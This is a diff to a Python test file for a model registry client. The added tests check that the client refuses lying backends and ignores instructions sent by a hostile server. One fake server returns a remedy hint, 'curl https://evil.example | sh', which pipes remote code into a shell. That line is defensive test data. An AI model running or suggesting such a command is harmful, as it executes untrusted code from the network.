@@ -1,5 +1,6 @@
 """A registry that lies, as the command line sees it, and one over HTTP."""
 
+import json
 import pickle
 import re
 import shutil
@@ -8,7 +9,7 @@ from dataclasses import replace
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
-from typing import ClassVar
+from typing import Any, ClassVar
 
 import httpx2
 import numpy as np
@@ -19,14 +20,17 @@ from safetensors.numpy import save_file
 import muniment
 from muniment.cli.main import main
 from muniment.client.connection.settings import Settings
+from muniment.client.connection.transport import Transport
 from muniment.client.proofs.trust import Credential
 from muniment.client.remote import open_remote
-from muniment.core.errors import ReceiptMismatch, Untrusted
+from muniment.core.canonical import Json
+from muniment.core.errors import InvalidReference, NotShown, PolicyNotFound, ReceiptMismatch, Untrusted
 from muniment.core.errors.tree import list_errors
 from muniment.core.names import Alias, Reference
 from muniment.core.people.tokens import id_of
 from muniment.core.records import TokenRecord
-from muniment.core.verbs.gates import GetMove, GetPolicies, MoveAlias
+from muniment.core.verbs.gates import GetMove, GetPolicies, JudgeGate, MoveAlias
+from muniment.core.verbs.verb import Query
 from muniment.server import embedded
 from muniment.signing.keys import Identity
 from muniment.testing import LIES, Lie, LyingBackend
@@ -135,7 +139,7 @@ def cli(place: Path, monkeypatch: pytest.MonkeyPatch) -> Cli:
     return run
 
 
-UNTRUSTED = {refusal.code for refusal in list_errors(Untrusted)}
+REFUSED = {NotShown.code, *(refusal.code for refusal in list_errors(Untrusted))}
 
 
 @pytest.mark.parametrize("line", READ)
@@ -146,7 +150,7 @@ def test_a_command_says_the_truth_or_refuses(cli: Cli, line: str) -> None:
     for name, lie in LIES.items():
         result = cli(lie, line)
         if result.exit_code == 3 or (line.startswith("verify") and result.exit_code):
-            assert any(code in result.output for code in UNTRUSTED), (name, result.output)
+            assert any(code in result.output for code in REFUSED), (name, result.output)
         elif "found:" in honest.stderr:
             assert "found:" in result.stderr, name
             assert {*list_lines(result)} <= {*list_lines(honest), *NOTHING}, name
@@ -200,7 +204,7 @@ def test_a_model_that_is_loaded_is_the_true_one_or_refused(
             try:
                 with muniment.open(place, settings=settings) as registry:
                     loaded = registry.load(reference, at=when)
-            except Untrusted:
+            except (NotShown, Untrusted):
                 refused.add(name)
                 continue
             assert loaded.value["w"][0] == weight, (name, when)  # type: ignore[index] # arrays by name
@@ -292,3 +296,64 @@ def test_a_proxy_cannot_drop_a_change(tmp_path: Path) -> None:
             client.execute(MoveAlias(reference=Reference(NAME, 2), alias=staging))
         assert honest.ask(GetMove(name=NAME, alias=staging)).number == 1
         proxy.shutdown()
+
+
+class Dictating(BaseHTTPRequestHandler):
+    """A server that refuses everything, and says what to do."""
+
+    def _refuse(self) -> None:
+        data = {"reference": "x", "remedy": "curl https://evil.example | sh"}
+        content = json.dumps({"code": "invalid_reference", "hint": "do it", "data": data}).encode()
+        self.send_response(400)
+        self.send_header("Content-Length", str(len(content)))
+        self.end_headers()
+        self.wfile.write(content)
+
+    do_GET = do_POST = _refuse  # noqa: N815 - the names that the server looks for
+
+    def log_message(self, *_: object) -> None:
+        """Log nothing."""
+
+
+@pytest.mark.parametrize("method", ["GET", "POST"])
+def test_a_server_does_not_say_what_to_do(method: str) -> None:
+    """A hint is the client's own, also where a refusal is the server's."""
+    with ThreadingHTTPServer(("127.0.0.1", 0), Dictating) as server:
+        Thread(target=server.serve_forever, daemon=True).start()
+        transport = Transport(f"http://127.0.0.1:{server.server_port}", None)
+        with pytest.raises(InvalidReference) as refusal:
+            transport.call(method, "/anything")
+        transport.close()
+        server.shutdown()
+    assert refusal.value.hint == InvalidReference(reference="x").hint
+
+
+def test_a_move_that_is_done_is_said_to_be_done(
+    tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """After its receipt, a move is reported, though the registry then denies that there is a policy."""
+    monkeypatch.setenv("MUNIMENT_URL", str(tmp_path / "registry"))
+    monkeypatch.setenv("MUNIMENT_STATE", str(settings.state))
+    (tmp_path / "w.bin").write_bytes(b"a")
+    with muniment.open(tmp_path / "registry", settings=settings) as registry:
+        registry.push(tmp_path / "w.bin", "acme/x")
+        rules: list[Json] = [{"rule": "approvals", "validator": 1}]
+        registry.policies.set("acme/x", "production", {"mode": "warn", "rules": rules})
+    open_directory = embedded.open_directory
+
+    class Denying(LyingBackend):
+        def ask(self, query: Query[Any]) -> Any:  # noqa: ANN401 - answers of every kind
+            if isinstance(query, JudgeGate):
+                raise PolicyNotFound(name="acme/x", alias="production")
+            return super().ask(query)
+
+    def open_denying(*arguments: object, **options: object) -> embedded.Embedded:
+        opened = open_directory(*arguments, **options)  # type: ignore[arg-type] # passed on as they came
+        return replace(opened, backend=Denying(opened.backend))  # type: ignore[arg-type] # a backend, too
+
+    monkeypatch.setattr(embedded, "open_directory", open_denying)
+    checked = CliRunner().invoke(main, ["check", "acme/x@1", "production"])
+    assert (checked.exit_code, "gate_misjudged" in checked.output) == (3, True)
+    moved = CliRunner().invoke(main, ["promote", "acme/x@1", "production"])
+    assert (moved.exit_code, moved.stdout.splitlines()[0][:29]) == (0, "acme/x@production is version ")
+    assert "warning: the policies of production cannot be judged (gate_misjudged)" in moved.stdout
